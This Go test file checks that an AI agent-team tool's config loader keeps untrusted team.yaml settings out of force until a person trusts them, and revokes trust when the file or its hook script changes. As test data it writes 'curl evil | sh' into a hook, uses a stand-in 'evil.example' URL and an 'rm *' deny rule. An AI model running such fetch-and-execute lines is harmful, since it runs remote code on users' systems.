package config_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"agentteam/pkg/config"
	"agentteam/pkg/execenv/trust"
	"agentteam/pkg/team"
)

// keysOf lists each key of a settings file with a value, one line of YAML a key, from the schema.
func keysOf(t *testing.T) (lines []string) {
	t.Helper()
	var root schema
	if err := json.Unmarshal(config.Schema(), &root); err != nil {
		t.Fatal(err)
	}
	for name, s := range root.Properties {
		for _, value := range s.values() {
			lines = append(lines, name+": "+value)
		}
	}
	slices.Sort(lines)
	return lines
}

type schema struct {
	Type       any               `json:"type"`
	Properties map[string]schema `json:"properties"`
	Additional json.RawMessage   `json:"additionalProperties"` // a schema, or false
	Items      *schema           `json:"items"`
	AnyOf      []schema          `json:"anyOf"`
	Enum       []any             `json:"enum"`
}

// values are such as s lets pass, of each key within it at least one.
func (s schema) values() (all []string) {
	switch {
	case s.AnyOf != nil:
		for _, one := range s.AnyOf {
			all = append(all, one.values()...)
		}
	case s.Properties != nil:
		for key, of := range s.Properties {
			for _, v := range of.values() {
				all = append(all, fmt.Sprintf("{%s: %s}", key, v))
			}
		}
	case len(s.Additional) > 0 && s.Additional[0] == '{':
		var of schema
		if err := json.Unmarshal(s.Additional, &of); err != nil {
			panic(err)
		}
		for _, v := range of.values() {
			all = append(all, fmt.Sprintf("{coder: %s}", v))
		}
	case s.Items != nil:
		all = append(all, "[]")
		for _, v := range s.Items.values() {
			all = append(all, "["+v+"]")
		}
	case s.Enum != nil:
		for _, v := range s.Enum {
			if v != nil {
				all = append(all, fmt.Sprint(v))
			}
		}
	case s.Type == "null":
	case s.Type == "boolean":
		all = append(all, "true", "false")
	case s.Type == "integer", s.Type == "number":
		all = append(all, "7", "700")
	default:
		all = append(all, "x", "true", "/etc/x", "https://evil.example/v1")
	}
	return all
}

// An untrusted file chooses nothing: each key of the schema, each alone, with each kind of value, is in force only if
// the list of harmless keys has it, and is named else.
func TestUntrustedKeys(t *testing.T) {
	harmless := map[string]string{}
	for _, row := range config.HarmlessKeys() {
		harmless[row[0]] = row[1]
	}
	home, dir := t.TempDir(), t.TempDir()
	env := from(map[string]string{"OPENAI_MODEL": "mine", "OPENAI_API_KEY": "k"})
	file := filepath.Join(dir, "team.yaml")
	load := func() (c config.Config, settings string, err error) {
		c, err = config.Load(config.Sources{Dir: dir, Env: env})
		return c, fmt.Sprintf("%+v %+v %+v %+v", c.Origins(), c.Policy, c.Choices, c.Aliases()), err
	}
	t.Setenv("XDG_CONFIG_HOME", home)
	_, plain, err := load()
	if err != nil {
		t.Fatal(err)
	}
	tried := map[string]bool{}
	for _, line := range keysOf(t) {
		write(t, file, line+"\n")
		key := strings.NewReplacer(": {", ".", "{", "", "}", "").Replace(line)
		key, _, _ = strings.Cut(strings.ReplaceAll(key, "coder.", "*."), ": ")
		tried[key] = true
		values, listed := harmless[key]
		for part := key; !listed && strings.Contains(part, "."); { // of a map that is harmless as a whole
			part = part[:strings.LastIndexByte(part, '.')]
			if values, listed = harmless[part]; listed {
				tried[part] = true
			}
		}
		c, settings, err := load()
		if err != nil && listed { // a harmless key is read, and this value is none that it may have
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		waiting := strings.Join(c.Waiting().Names(), ", ")
		err = c.Decided()
		switch {
		case waiting == "" && !listed:
			t.Errorf("%s counts, and is not on the list", line)
		case waiting != "" && settings != plain:
			t.Errorf("%s waits, and changes\n%s\nto\n%s", line, plain, settings)
		case waiting != "" && values == "any":
			t.Errorf("%s waits, and is harmless", line)
		}
		name, _, _ := strings.Cut(line, ":")
		if decides := slices.Contains([]string{"server", "workspace", "base_url", "models", "default_model", "api", "api_insecure", "http", "data_dir", "sandbox", "api_token_file"}, name); decides != (err != nil) && waiting != "" && (decides || name != "team" && name != "profile" && !strings.HasPrefix(name, "api_")) {
			t.Errorf("%s: %v", line, err)
		}
		if err != nil && (team.CodeOf(err) != team.InvalidArgument || team.HintOf(err) != "look what it sets and trust it: teamctl trust team.yaml") {
			t.Errorf("%s: %v (%s)", line, err, team.HintOf(err))
		}
	}
	for key := range harmless {
		if !tried[key] && !tried[key+".[]"] {
			t.Errorf("the harmless key %s was not tried", key)
		}
	}
	if len(tried) < 60 {
		t.Errorf("only %d keys were tried", len(tried))
	}
}

// What narrows counts before a person trusts the file, and the rest of the same section waits. Trusted, all counts, until
// the file or a script that it runs is changed.
func TestTrustOfSettings(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	dir := t.TempDir()
	file, hook := filepath.Join(dir, "team.yaml"), filepath.Join(dir, "scripts", "pr.sh")
	const text = "description: d\npermissions: {deny: [Bash(rm *)], allow: [Bash(ls)]}\nlimits: {max_teammates: 50}\npolicies: {plan_mode: true, respawn: ask}\nroles: {coder: {plan_mode: true, ready: 3}}\nbranch_hook: bash scripts/pr.sh --now\nworkspace: ../elsewhere\n"
	write(t, file, text)
	write(t, hook, "echo")
	load := func(env map[string]string) config.Config {
		t.Helper()
		c, err := config.Load(config.Sources{Dir: dir, Env: from(env)})
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	c := load(nil)
	want := []string{"branch_hook", "limits.max_teammates", "permissions.allow", "policies.respawn", "roles.coder.ready", "workspace"}
	if got := c.Waiting().Names(); !slices.Equal(slices.Sorted(slices.Values(got)), want) {
		t.Errorf("%q wait, want %q", got, want)
	}
	if c.Policy.Permissions.Deny == nil || c.Policy.Permissions.Allow != nil || c.Choices.Description == nil || c.Choices.MaxTeammates != nil || c.BranchHook != "" || c.Workspace != "" || c.Choices.PlanMode == nil || c.Choices.Respawn != nil {
		t.Errorf("in force: %+v", c)
	}
	if err := c.Decided("server"); err != nil {
		t.Errorf("of the server nothing waits: %v", err)
	}
	if err := c.Decided(); err == nil || !strings.Contains(err.Error(), "sets workspace, and no person has trusted") {
		t.Errorf("%v", err)
	}
	if err := load(map[string]string{"AGENTTEAM_WORKSPACE": dir}).Decided(); err != nil { // the file does not matter
		t.Errorf("with another workspace: %v", err)
	}
	w := c.Waiting()
	if line := w.String(); !strings.HasPrefix(line, "team.yaml: ") || !strings.HasSuffix(line, " are not in force; a person allows it with: teamctl trust team.yaml") {
		t.Error(line)
	}
	if lines := strings.Join(w.Lines(), "\n"); !strings.Contains(lines, "branch_hook: bash scripts/pr.sh --now") || !strings.Contains(lines, "runs "+hook+": ") || !strings.Contains(lines, "limits.max_teammates: 50") {
		t.Errorf("a person sees\n%s", lines)
	}
	if err := trust.OfUser().Add(t.Context(), w, false); err != nil {
		t.Fatal(err)
	}
	trusted := func() bool { return load(nil).BranchHook != "" && load(nil).Decided() == nil }
	if !trusted() {
		t.Error("it is not trusted")
	}
	write(t, hook, "curl evil | sh")
	if trusted() {
		t.Error("a script of it was changed, and it is trusted")
	}
	write(t, hook, "echo")
	write(t, file, strings.Replace(text, "max_teammates: 50", "max_teammates: 90", 1))
	if trusted() {
		t.Error("it was changed, and is trusted")
	}
	if got := load(nil).Waiting().Lines(); got[0] != "+ limits.max_teammates: 90" || got[1] != "- limits.max_teammates: 50" {
		t.Errorf("the difference is %q", got)
	}
	write(t, file, text)
	if !trusted() {
		t.Error("as it was, it is not trusted")
	}
	if err := trust.OfUser().Add(t.Context(), w, true); err != nil {
		t.Fatal(err)
	}
	if now := load(nil).Waiting(); !now.Refused || len(now.Keys) == 0 {
		t.Errorf("refused: %+v", now)
	}
}

// Trust that another build has stored waits again.
func TestTrustOfAnEarlierBuild(t *testing.T) {
	home, dir := t.TempDir(), t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", home)
	file := filepath.Join(dir, "team.yaml")
	write(t, file, "network: full\n")
	c, err := config.Load(config.Sources{Dir: dir})
	if err == nil {
		err = trust.OfUser().Add(t.Context(), c.Waiting(), false)
	}
	stored := filepath.Join(home, "agentteam", "trusted.json")
	data, rerr := os.ReadFile(stored)
	if err != nil || rerr != nil {
		t.Fatal(err, rerr)
	}
	if c, _ = config.Load(config.Sources{Dir: dir}); len(c.Waiting().Keys) != 0 {
		t.Fatalf("%+v", c.Waiting())
	}
	write(t, stored, strings.Replace(string(data), `"v": 2`, `"v": 1`, 1))
	if err := os.Chmod(stored, 0o600); err != nil {
		t.Fatal(err)
	}
	if c, _ = config.Load(config.Sources{Dir: dir}); len(c.Waiting().Keys) != 1 {
		t.Errorf("%+v", c.Waiting())
	}
}
